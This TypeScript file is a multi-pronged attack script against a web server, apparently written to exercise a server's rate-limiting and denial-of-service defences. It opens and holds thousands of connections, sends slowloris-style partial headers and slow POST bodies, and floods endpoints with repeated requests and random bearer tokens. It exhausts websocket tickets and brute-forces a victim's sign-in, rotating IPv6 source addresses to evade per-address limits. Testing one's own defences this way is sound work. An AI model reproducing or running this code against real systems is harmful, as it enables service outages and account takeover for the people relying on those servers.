import { once, setMaxListeners } from 'node:events'
import { setTimeout as wait } from 'node:timers/promises'
import { call, openSocket, type Route } from './client.ts'

/*
 * Attacks a server from many addresses until it is stopped: node attackers.ts HOST PORT CHANNEL_ID
 * Prints a line when the connections are open, and a line of counts at the end.
 */
const [host = '', port = '', channelId = ''] = process.argv.slice(2)
const route = (localAddress: string): Route => ({ host, port: Number(port), localAddress })
/** The server has every address of 2001:db8::/32. */
const ipv6Route = (localAddress: string): Route => ({ ...route(localAddress), host: '2001:db8:ffff::1' })
const addresses = (first: number, count: number) => Array.from({ length: count }, (_, n) => `198.51.100.${first + n}`)
const hostHeader = `Host: ${host}:${port}\r\n`
const counts = { connections: 0, calls: 0, refusedCalls: 0, guesses: 0, checkedGuesses: 0, websockets: 0 }
const stop = new AbortController()
const stopping = stop.signal
// Every connection waits for it.
setMaxListeners(0, stopping)

/** Keeps `count` connections of an address open, each of which sends `bytes` first. One that is closed is opened again. */
async function holdConnections(localAddress: string, count: number, bytes = ''): Promise<void> {
  const hold = async (nth: number) => {
    for (await wait((nth / count) * 1_000); !stopping.aborted; await wait(1_000)) {
      const socket = openSocket(route(localAddress))
      counts.connections++
      if (bytes !== '') socket.once('connect', () => socket.write(bytes))
      await once(socket, 'close', { signal: stopping }).catch(() => {})
    }
  }
  await Promise.all(Array.from({ length: count }, (_, nth) => hold(nth)))
}

/** Calls one after the other, without end. */
async function repeatCall(localAddress: string, path: string, headers: () => Record<string, string>): Promise<void> {
  while (!stopping.aborted) {
    counts.calls++
    const { status } = await call(route(localAddress), path, { headers: headers() }).catch(() => ({ status: 0 }))
    if (status !== 200) counts.refusedCalls++
    if (status === 0) await wait(20)
  }
}

/** Guesses passwords, each time from another network of one /48. */
async function guessPasswords(localAddress: (nth: number) => string): Promise<void> {
  const ownHost = { host: `${host}:${port}` }
  const form = await call(ipv6Route(localAddress(0)), '/sign-in', { headers: ownHost }).catch(() => null)
  const cookie = (form?.headers['set-cookie'] ?? []).map((line) => line.split(';', 1)[0]).join('; ')
  const csrf = /name="csrf" value="([^"]+)"/.exec(form?.text ?? '')?.[1] ?? ''
  const headers = { ...ownHost, cookie, 'content-type': 'application/x-www-form-urlencoded' }
  for (let nth = 0; !stopping.aborted; nth++) {
    const body = String(new URLSearchParams({ email: 'victim@example.com', password: `guess ${nth}`, csrf }))
    counts.guesses++
    const options = { method: 'POST', headers, body }
    const answer = await call(ipv6Route(localAddress(nth)), '/sign-in', options).catch(() => null)
    if (answer?.status === 400) counts.checkedGuesses++
    if (answer === null) await wait(20)
  }
}

const websocketOf = (ticket: string) =>
  `GET /socket.io/?EIO=3&transport=websocket&auth=${ticket} HTTP/1.1\r\n${hostHeader}Connection: Upgrade\r\n` +
  'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n'

/** Opens the sockets of guests, as many as their quota of calls allows, and then sockets without a ticket. */
async function openWebsockets(localAddress: string): Promise<void> {
  const headers = { 'content-type': 'application/json' }
  const path = `/console/v1/channels/${channelId}/viewer`
  for (let nth = 0; nth < 20 && !stopping.aborted; nth++) {
    const answer = await call(route(localAddress), path, { method: 'POST', headers, body: '{}' }).catch(() => null)
    const ticket = /auth=([^"&]+)/.exec(answer?.text ?? '')?.[1]
    if (ticket === undefined) continue
    counts.websockets++
    openSocket(route(localAddress)).write(websocketOf(ticket))
  }
  await holdConnections(localAddress, 20, websocketOf('made-up'))
}

const attacks = [
  ...addresses(10, 5).map((address) => holdConnections(address, 400)),
  ...addresses(20, 5).map((address) =>
    holdConnections(address, 100, `GET /console/v1/lives HTTP/1.1\r\n${hostHeader}X-Slow: `),
  ),
  ...addresses(30, 5).map((address) =>
    holdConnections(address, 100, `POST /sign-in HTTP/1.1\r\n${hostHeader}Content-Length: 1000\r\n\r\na=`),
  ),
  ...addresses(40, 2).map((address) => repeatCall(address, '/console/v1/lives', () => ({}))),
  ...addresses(50, 2).map((address) =>
    repeatCall(address, '/open/v1/users/me', () => ({
      authorization: `Bearer ${crypto.randomUUID().padEnd(54, 'x')}`,
    })),
  ),
  ...Array.from({ length: 48 }, (_, guesser) =>
    guessPasswords((nth) => `2001:db8:1:${((guesser * 256 + nth) % 0xffff).toString(16)}::1`),
  ),
  ...addresses(60, 3).map(openWebsockets),
]
await wait(1_500)
process.stdout.write(`${JSON.stringify({ isReady: true })}\n`)
process.once('SIGTERM', () => stop.abort())
await Promise.all(attacks)
process.stdout.write(`${JSON.stringify(counts)}\n`, () => process.exit())
